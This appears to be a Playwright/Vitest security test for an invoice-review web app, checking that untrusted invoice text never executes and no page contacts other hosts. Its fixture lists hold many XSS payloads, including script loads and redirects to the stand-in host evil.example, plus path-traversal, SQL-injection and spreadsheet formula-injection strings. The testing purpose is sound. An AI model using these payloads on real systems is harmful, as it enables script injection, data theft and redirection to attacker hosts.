/** What strangers write (names, subjects, what OCR reads) is shown as text on every page, whatever it says. */
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { DraftField, FieldName } from '../../schemas/draft.ts'
import type { Finding } from '../../schemas/finding.ts'
import { asJson } from '../database/json.ts'
import { insertCompany, insertInvoice, newId, PLAIN_BILL } from '../http/testing/records.ts'
import { startTestHttp, type TestHttp } from '../http/testing/start-http.ts'
import { addPerson } from '../people/person.ts'
import { issueSignInLink } from '../people/sign-in-link.ts'
import { correct } from '../review/correct.ts'
import { putWords } from './testing/fill-desk.ts'
import { openBrowser, signInto } from './testing/open-workspace.ts'

/** Whatever of these runs calls the canary or leaves the page. */
const SCRIPTS = [
  '<script>canary(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=canary(2)>',
  '"><img src=x onerror="canary(3)">',
  "'-canary(4)-'",
  '"; canary(5); //',
  '<svg/onload=canary(6)>',
  '<svg><script>canary(7)</script></svg>',
  '<iframe srcdoc="<script>parent.canary(8)</script>">',
  '<a href="javascript:canary(9)">click</a>',
  'javascript:canary(10)',
  '<body onload=canary(11)>',
  '<input autofocus onfocus=canary(12)>',
  '<details open ontoggle=canary(13)>',
  '<math><mi//xlink:href="data:x,<script>canary(14)</script>">',
  '{{constructor.constructor("canary(15)")()}}',
  `$\{canary(16)}`,
  '<%= canary(17) %>',
  '</title><script>canary(18)</script>',
  '</textarea><script>canary(19)</script>',
  '<style>@import "//evil.example/x.css";*{background:url(//evil.example/y)}</style>',
  '<base href="//evil.example/">',
  '<form action="//evil.example"><button>Pay</button></form>',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '\\u003cscript\\u003ecanary(20)\\u003c/script\\u003e',
  '&lt;script&gt;canary(21)&lt;/script&gt;',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
]
const ODD = [
  '\u202egnp.exe\u202c',
  'Z\u0351\u0351a\u0488l\u0489g\u035co\u035f',
  '👩‍👩‍👧‍👦 🇩🇪 ﷽',
  '田中さんにあげて下さい',
  'الكل في المجمو عة',
  '\ufeff\u200b\u2028\u2029',
  'a'.repeat(400),
  '%s%n%d %00 ../../etc/passwd',
  "Robert'); drop table invoice;--",
  '=cmd|" /C calc"!A1',
  '-1e309',
  'NaN',
  'undefined',
  'null',
  '1/0',
  '😍'.repeat(60),
]

let http: TestHttp
let base: string
let browser: Browser
let context: BrowserContext
let page: Page
const fired: string[] = []
const elsewhere: string[] = []
const invoices: string[] = []

beforeAll(async () => {
  http = await startTestHttp()
  base = await http.listen()
  const company = await insertCompany(http.db, { id: 'acme', name: SCRIPTS[2] ?? '' })
  for (const [index, text] of [...SCRIPTS, ...ODD].entries()) await insertHostile(company.id, { index, text })
  const person = { email: 'admin@acme.example', name: SCRIPTS[0] ?? '' }
  const { id } = await addPerson(http.db, { person, companyId: 'acme', role: 'admin', now: http.ports.now, newId })
  const { url } = await issueSignInLink(http.db, { personId: id, now: http.ports.now, publicUrl: base })
  browser = await openBrowser()
  ;({ context, page } = await signInto(browser, { link: url }))
  await context.exposeFunction('canary', (what: unknown) => fired.push(String(what)))
  context.on('dialog', (dialog) => {
    fired.push(dialog.message())
    void dialog.dismiss()
  })
  context.on('request', (request) => {
    if (!request.url().startsWith(base) && !request.url().startsWith('blob:')) elsewhere.push(request.url())
  })
})
afterAll(async () => {
  await browser?.close()
  await http?.close()
})

/** An invoice that says this wherever a document or mail can say something. */
async function insertHostile(companyId: string, { index, text }: { index: number; text: string }): Promise<void> {
  const { db, ports } = http
  const values: Partial<Record<FieldName, string>> = {
    ...PLAIN_BILL,
    supplierName: text,
    invoiceNumber: `${index} ${text}`,
    customerName: text,
    paymentReference: text,
    currency: text,
    dueDate: text,
  }
  const findings: Finding[] = [
    { code: text, severity: 'error', message: text },
    { code: 'iban-is-valid', severity: 'warning', field: 'customerName', message: text },
  ]
  const given = { values, findings, fileName: `${text}.pdf`, subject: text, at: ports.now() }
  const invoice = await insertInvoice(db, { company: { id: companyId }, status: 'in-review', ...given })
  invoices.push(invoice.id)
  const alternatives = [{ field: 'customerName' as const, value: `other ${text}`, score: 0.5, reader: text, raw: text }]
  const customerName = { ...(invoice.draft?.fields.customerName as DraftField), alternatives }
  const lines = [{ description: text, unit: text }]
  const draft = { ...invoice.draft, fields: { ...invoice.draft?.fields, customerName }, lines }
  const failure = { code: text, message: text, at: ports.now().toISOString(), attempts: 1 }
  await db
    .updateTable('invoice')
    .set({ draft: asJson(draft as never), ...(index % 3 === 0 ? { failure: asJson(failure) } : {}) })
    .where('id', '=', invoice.id)
    .execute()
  await putWords(ports, invoice.id)
  const { version } = invoice
  const target = { companyId, invoiceId: invoice.id, version, actor: 'ann@acme.example' }
  await correct(ports, { ...target, correction: { fields: { purchaseOrder: text } } })
}

test.each([
  'inbox',
  'inbox?sort=arrival',
  'deliveries',
  'suppliers',
  'activity',
  'overview',
  'accounting',
  'approvals',
])('the page %s shows what strangers wrote and runs none of it', async (path) => {
  await page.goto(`${base}/workspace/acme/${path}`)
  await page.getByRole('heading', { level: 1 }).waitFor()
  await page.getByText('Loading').waitFor({ state: 'detached' })
  expect([fired, elsewhere]).toEqual([[], []])
})

test('every review shows it as text, and typing it into a field changes nothing', async () => {
  for (const [index, text] of [...SCRIPTS, ...ODD].entries()) {
    await page.goto(`${base}/workspace/acme/invoices/${invoices[index]}`)
    const customer = page.getByLabel('Customer', { exact: true })
    await customer.waitFor()
    await page.getByText('History').click()
    // An input drops line separators of its own accord; all else stands there as it was written.
    expect(await customer.inputValue()).toBe(text)
    expect([text, fired, elsewhere]).toEqual([text, [], []])
  }
  await page.getByLabel('Payment reference').fill(SCRIPTS[3] ?? '')
  await page.getByLabel('Payment reference').press('Tab')
  await page.getByText('All saved').waitFor()
  expect(fired).toEqual([])
})

test('the canary would sing', async () => {
  await page.evaluate('canary("alive")')
  expect(fired).toEqual(['alive'])
})

test('no address of a page makes it run something or go elsewhere', async () => {
  fired.length = 0
  for (const path of [
    'inbox?q=%3Cimg%20src%3Dx%20onerror%3Dcanary(1)%3E&cause=%3Cscript%3Ecanary(2)%3C/script%3E&sort=__proto__',
    'invoices/%3Cscript%3Ecanary(3)%3C%2Fscript%3E',
    'deliveries?q=%22%3E%3Csvg%20onload%3Dcanary(4)%3E',
  ]) {
    await page.goto(`${base}/workspace/acme/${path}`)
    await page.getByRole('heading', { level: 1 }).waitFor()
  }
  expect([fired, elsewhere]).toEqual([[], []])
})
